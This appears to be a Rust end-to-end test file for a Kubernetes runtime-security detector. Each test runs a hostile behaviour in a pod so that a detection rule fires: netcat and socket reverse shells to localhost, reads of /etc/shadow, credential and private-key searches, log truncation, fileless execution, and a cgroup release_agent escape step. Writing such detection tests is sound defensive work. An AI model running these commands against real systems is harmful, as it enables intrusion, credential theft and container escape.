//! One test per runtime rule: in a namespace of its own, under a SecurityPolicy applying
//! every rule in Audit mode (as `config/samples/runtime-audit.yaml` does), a pod does what
//! the rule is about, and the rule's Event, PolicyReport result and JSON line follow within
//! 5 s. Each case says why the behaviour is what the rule matches
//! (policy/src/runtime/matching.rs) and gets past the kernel's filter
//! (agent/src/bpf/sensor.bpf.c).

use palisade_e2e::Test;
use palisade_e2e::runtime::{Action, Expected, Rule, wait_detection};

use super::*;

/// One rule's test.
struct Case {
    rule: Rule,
    workload: Workload,
    /// `kubectl exec -it` (at a terminal) rather than `kubectl exec`.
    tty: bool,
    /// The behaviour: a command run in the workload container.
    command: &'static [&'static str],
    /// The command's exit code when it did what it should (`None`: any, for attempts the
    /// kernel refuses).
    code: Option<i32>,
    /// A piece of what the command printed (stdout or stderr) that shows it did it.
    shows: &'static str,
    /// A piece of the offending process's command line in the JSON line.
    cmdline: &'static str,
}

const DEFAULT: Case = Case {
    rule: TERMINAL_SHELL,
    workload: Workload {
        privileged: false,
        capabilities: &[],
        public_address: false,
    },
    tty: false,
    command: &[],
    code: Some(0),
    shows: "",
    cmdline: "",
};

fn detects(case: Case) {
    let name = format!("e2e-rt-{}", kebab(case.rule.id));
    let t = Test::new(&name);
    let site = Site::new(&t, &name, "    mode: Audit", "");
    let pod = site.workload("workload", case.workload);
    let (out, done) = site.exec(&pod, case.tty, case.command);
    if let Some(code) = case.code {
        assert_eq!(
            out.code,
            Some(code),
            "the behaviour of the {} test did not run as it should:\n{out}",
            case.rule.id
        );
    }
    assert!(
        out.stdout.contains(case.shows) || out.stderr.contains(case.shows),
        "the behaviour of the {} test did not show {:?}:\n{out}",
        case.rule.id,
        case.shows
    );
    wait_detection(
        &t,
        &pod,
        &Expected {
            rule: case.rule,
            policy: &site.policy,
            action: Action::Reported,
            cmdline: case.cmdline,
        },
        done,
    );
}

/// `kubectl exec -it … -- sh`: a shell with a terminal whose parent is outside the container
/// (the runtime), the rule's `proc.tty != 0` and container entry point.
#[test]
fn terminal_shell() {
    detects(Case {
        rule: TERMINAL_SHELL,
        tty: true,
        command: &["/bin/sh", "-c", "/usr/bin/tty"],
        shows: "/dev/pts/",
        cmdline: "sh -c /usr/bin/tty",
        ..DEFAULT
    });
}

/// A web request runs a CGI script that starts a shell: `sh` whose parent is the script and
/// whose ancestors include busybox `httpd`, a protected shell spawner, with a command line
/// no known spawn has.
#[test]
fn run_shell_untrusted() {
    detects(Case {
        rule: RUN_SHELL_UNTRUSTED,
        command: &[
            "/usr/bin/wget",
            "-q",
            "-O-",
            "http://127.0.0.1:8080/cgi-bin/status",
        ],
        shows: "uid=0(root)",
        cmdline: "sh -c /usr/bin/id",
        ..DEFAULT
    });
}

/// A program copied to /tmp and run: its executable changed after the container started.
#[test]
fn drop_and_execute_new_binary() {
    detects(Case {
        rule: DROP_AND_EXECUTE_NEW_BINARY,
        command: &[
            "/bin/sh",
            "-c",
            "/bin/cp /usr/local/bin/palisade-probe /tmp/dropper && exec /tmp/dropper",
        ],
        shows: "stand-in for the real dropper",
        cmdline: "dropper",
        ..DEFAULT
    });
}

/// A script dropped in /dev/shm and run by a shell (`sh /dev/shm/…`: the pod's /dev/shm is
/// mounted noexec by containerd, so a program there could not be executed directly).
#[test]
fn execution_from_dev_shm() {
    detects(Case {
        rule: EXECUTION_FROM_DEV_SHM,
        command: &[
            "/bin/sh",
            "-c",
            "/bin/echo /usr/bin/id >/dev/shm/payload.sh && exec /bin/sh /dev/shm/payload.sh",
        ],
        shows: "uid=0(root)",
        cmdline: "sh /dev/shm/payload.sh",
        ..DEFAULT
    });
}

/// busybox copied into an anonymous memory file and executed from it (execveat with
/// AT_EMPTY_PATH): the executable is a memfd, not runc's own copy.
#[test]
fn fileless_execution() {
    detects(Case {
        rule: FILELESS_EXECUTION,
        command: &[
            "/usr/local/bin/palisade-probe",
            "memfd-exec",
            "/bin/busybox",
            "echo",
            "fileless",
        ],
        shows: "fileless",
        cmdline: "fileless",
        ..DEFAULT
    });
}

/// A program named debugfs started in a privileged container (the rule keys on the name;
/// the image's debugfs is a stand-in, e2fsprogs has no static build).
#[test]
fn debugfs_in_privileged_container() {
    detects(Case {
        rule: DEBUGFS_IN_PRIVILEGED_CONTAINER,
        workload: Workload {
            privileged: true,
            ..Workload::default()
        },
        command: &["/sbin/debugfs", "-R", "stats", "/dev/vda"],
        shows: "stand-in for the real debugfs",
        cmdline: "debugfs -R stats /dev/vda",
        ..DEFAULT
    });
}

/// busybox insmod of a file that is no module, with CAP_SYS_MODULE: finit_module (then
/// init_module) is attempted, which the rule counts whatever the kernel answers (ENOEXEC,
/// or ENOSYS on a kernel without modules).
#[test]
fn kernel_module_injection() {
    detects(Case {
        rule: KERNEL_MODULE_INJECTION,
        workload: Workload {
            capabilities: &["SYS_MODULE"],
            ..Workload::default()
        },
        command: &[
            "/bin/sh",
            "-c",
            "/bin/echo not a module >/tmp/rootkit.ko && exec /sbin/insmod /tmp/rootkit.ko",
        ],
        code: None,
        shows: "insmod: can't insert",
        cmdline: "insmod /tmp/rootkit.ko",
        ..DEFAULT
    });
}

/// PTRACE_ATTACH to a child (allowed without CAP_SYS_PTRACE: same user, a descendant).
#[test]
fn ptrace_attached() {
    detects(Case {
        rule: PTRACE_ATTACHED,
        command: &["/usr/local/bin/palisade-probe", "ptrace-attach"],
        shows: "(PTRACE_ATTACH) and detached",
        cmdline: "palisade-probe ptrace-attach",
        ..DEFAULT
    });
}

/// PTRACE_TRACEME, the anti-debugging trick, by a child of the probe.
#[test]
fn ptrace_anti_debug() {
    detects(Case {
        rule: PTRACE_ANTI_DEBUG,
        command: &["/usr/local/bin/palisade-probe", "ptrace-traceme"],
        shows: "(PTRACE_TRACEME)",
        cmdline: "palisade-probe ptrace-traceme",
        ..DEFAULT
    });
}

/// `cat /etc/shadow`: a sensitive file read by a program that is no trusted reader.
#[test]
fn read_sensitive_file_untrusted() {
    detects(Case {
        rule: READ_SENSITIVE_FILE_UNTRUSTED,
        command: &["/bin/cat", "/etc/shadow"],
        shows: "root:*:",
        cmdline: "cat /etc/shadow",
        ..DEFAULT
    });
}

/// A server program (named nginx: the rule keys on the name; the image's nginx is a
/// stand-in) reads /etc/shadow 6 s after it started, past the 5 s of startup.
#[test]
fn read_sensitive_file_trusted_after_startup() {
    detects(Case {
        rule: READ_SENSITIVE_FILE_TRUSTED_AFTER_STARTUP,
        command: &["/usr/sbin/nginx", "open", "/etc/shadow", "r", "6"],
        shows: "opened /etc/shadow for reading",
        cmdline: "nginx open /etc/shadow r 6",
        ..DEFAULT
    });
}

/// /etc/passwd read through a path that climbs out of the web root twice, by a program
/// whose parent is no shell.
#[test]
fn directory_traversal_read() {
    detects(Case {
        rule: DIRECTORY_TRAVERSAL_READ,
        command: &["/bin/cat", "/var/www/../../etc/passwd"],
        shows: "root:x:0:0",
        cmdline: "cat /var/www/../../etc/passwd",
        ..DEFAULT
    });
}

/// grep for a private key header (it finds none: exit 1).
#[test]
fn search_private_keys_or_passwords() {
    detects(Case {
        rule: SEARCH_PRIVATE_KEYS_OR_PASSWORDS,
        command: &["/bin/grep", "-rl", "BEGIN RSA PRIVATE KEY", "/etc", "/root"],
        code: Some(1),
        cmdline: "grep -rl BEGIN RSA PRIVATE KEY",
        ..DEFAULT
    });
}

/// find for .aws/credentials (the last argument ends with it).
#[test]
fn find_aws_credentials() {
    detects(Case {
        rule: FIND_AWS_CREDENTIALS,
        command: &["/usr/bin/find", "/", "-xdev", "-path", "*/.aws/credentials"],
        cmdline: "find / -xdev -path */.aws/credentials",
        ..DEFAULT
    });
}

/// A shell truncates /var/log/auth.log (O_WRONLY|O_CREAT|O_TRUNC on a file of /var/log).
#[test]
fn clear_log_activities() {
    detects(Case {
        rule: CLEAR_LOG_ACTIVITIES,
        command: &["/bin/sh", "-c", ": >/var/log/auth.log"],
        cmdline: "sh -c : >/var/log/auth.log",
        ..DEFAULT
    });
}

/// shred of a data file.
#[test]
fn remove_bulk_data() {
    detects(Case {
        rule: REMOVE_BULK_DATA,
        command: &[
            "/bin/sh",
            "-c",
            "/bin/echo customer-records >/tmp/customers.csv && exec /usr/bin/shred -u /tmp/customers.csv",
        ],
        cmdline: "shred -u /tmp/customers.csv",
        ..DEFAULT
    });
}

/// `ln -s /etc/shadow …`: a symbolic link whose target is a sensitive file.
#[test]
fn symlink_over_sensitive_files() {
    detects(Case {
        rule: SYMLINK_OVER_SENSITIVE_FILES,
        command: &["/bin/ln", "-s", "/etc/shadow", "/tmp/shadow-link"],
        cmdline: "ln -s /etc/shadow /tmp/shadow-link",
        ..DEFAULT
    });
}

/// `ln /etc/shadow …`: a hard link to a sensitive file (overlayfs copies it up first).
#[test]
fn hardlink_over_sensitive_files() {
    detects(Case {
        rule: HARDLINK_OVER_SENSITIVE_FILES,
        command: &["/bin/ln", "/etc/shadow", "/tmp/shadow-hard"],
        cmdline: "ln /etc/shadow /tmp/shadow-hard",
        ..DEFAULT
    });
}

/// The first step of the cgroup v1 release_agent escape, in a privileged container (root,
/// CAP_SYS_ADMIN): a cgroup hierarchy mounted and its release_agent opened for writing.
/// The hierarchy is a new named one with no controller, unmounted at once, and nothing is
/// written: the node's own hierarchies are left alone. A new hierarchy can only be made
/// outside a private cgroup namespace, as containerd runs containers on cgroup v1 nodes
/// (the local cluster's); the rule is about cgroup v1, which alone has release_agent.
#[test]
fn release_agent_escape() {
    detects(Case {
        rule: RELEASE_AGENT_ESCAPE,
        workload: Workload {
            privileged: true,
            ..Workload::default()
        },
        command: &[
            "/bin/sh",
            "-c",
            "/bin/mkdir -p /tmp/cgrp && /bin/mount -t cgroup -o none,name=palisade-e2e cgroup /tmp/cgrp \
             && /usr/local/bin/palisade-probe open /tmp/cgrp/release_agent w; rc=$?; /bin/umount /tmp/cgrp; exit $rc",
        ],
        shows: "opened /tmp/cgrp/release_agent for writing",
        cmdline: "palisade-probe open /tmp/cgrp/release_agent w",
        ..DEFAULT
    });
}

/// A TCP connection to the API server at the `kubernetes` Service's address, as a pod's
/// in-cluster client makes it (KUBERNETES_SERVICE_HOST and _PORT).
#[test]
fn contact_k8s_api_server() {
    detects(Case {
        rule: CONTACT_K8S_API_SERVER,
        command: &[
            "/bin/sh",
            "-c",
            r#"exec /usr/local/bin/palisade-probe connect "$KUBERNETES_SERVICE_HOST" "$KUBERNETES_SERVICE_PORT""#,
        ],
        shows: "connected to",
        cmdline: "palisade-probe connect",
        ..DEFAULT
    });
}

/// `nc … -e /bin/sh`: a reverse shell to the pod's listener on 4444, which sends it
/// `/usr/bin/id; exit`.
#[test]
fn netcat_remote_code_execution() {
    detects(Case {
        rule: NETCAT_REMOTE_CODE_EXECUTION,
        command: &["/usr/bin/nc", "127.0.0.1", "4444", "-e", "/bin/sh"],
        cmdline: "nc 127.0.0.1 4444 -e /bin/sh",
        ..DEFAULT
    });
}

/// A connected TCP socket duplicated onto stdin, stdout and stderr before /bin/sh runs on
/// it: the reverse shell of a C payload, to the pod's listener on 4444.
#[test]
fn redirect_stdio_to_network() {
    detects(Case {
        rule: REDIRECT_STDIO_TO_NETWORK,
        command: &[
            "/usr/local/bin/palisade-probe",
            "reverse-shell",
            "127.0.0.1",
            "4444",
        ],
        cmdline: "palisade-probe reverse-shell 127.0.0.1 4444",
        ..DEFAULT
    });
}

/// An AF_PACKET raw socket (CAP_NET_RAW, which runtimes grant by default, added explicitly).
#[test]
fn packet_socket() {
    detects(Case {
        rule: PACKET_SOCKET,
        workload: Workload {
            capabilities: &["NET_RAW"],
            ..Workload::default()
        },
        command: &["/usr/local/bin/palisade-probe", "packet-socket"],
        shows: "opened a packet socket",
        cmdline: "palisade-probe packet-socket",
        ..DEFAULT
    });
}

/// An SSH client (its executable's path ends in ssh: the image's /usr/bin/ssh is a stand-in
/// that connects) to a public address on port 443. The address is on the pod's loopback, a
/// web server listens there, and the connection succeeds.
#[test]
fn ssh_non_standard_port() {
    detects(Case {
        rule: SSH_NON_STANDARD_PORT,
        workload: Workload {
            public_address: true,
            ..Workload::default()
        },
        command: &["/usr/bin/ssh", "-p", "443", "git@203.0.113.7"],
        shows: "connected to 203.0.113.7 port 443",
        cmdline: "ssh -p 443 git@203.0.113.7",
        ..DEFAULT
    });
}

/// `dpkg -i` (busybox's dpkg): a package manager installing, whatever it then finds.
#[test]
fn package_management() {
    detects(Case {
        rule: PACKAGE_MANAGEMENT,
        command: &["/usr/bin/dpkg", "-i", "/tmp/netcat-traditional.deb"],
        code: None,
        cmdline: "dpkg -i /tmp/netcat-traditional.deb",
        ..DEFAULT
    });
}

/// A program copied into /usr/local/bin (O_WRONLY|O_CREAT below a binary directory) by cp,
/// which is no package manager.
#[test]
fn write_below_binary_dir_or_etc() {
    detects(Case {
        rule: WRITE_BELOW_BINARY_DIR_OR_ETC,
        command: &["/bin/cp", "/bin/busybox", "/usr/local/bin/kubectl"],
        cmdline: "cp /bin/busybox /usr/local/bin/kubectl",
        ..DEFAULT
    });
}

/// A TCP connection to a public address on 3333, a Stratum port. The address is on the
/// pod's loopback with a web server on 3333, so the connection succeeds.
#[test]
fn crypto_mining_pool() {
    detects(Case {
        rule: CRYPTO_MINING_POOL,
        workload: Workload {
            public_address: true,
            ..Workload::default()
        },
        command: &[
            "/usr/local/bin/palisade-probe",
            "connect",
            PUBLIC_ADDRESS,
            "3333",
        ],
        shows: "connected to 203.0.113.7 port 3333",
        cmdline: "palisade-probe connect 203.0.113.7 3333",
        ..DEFAULT
    });
}
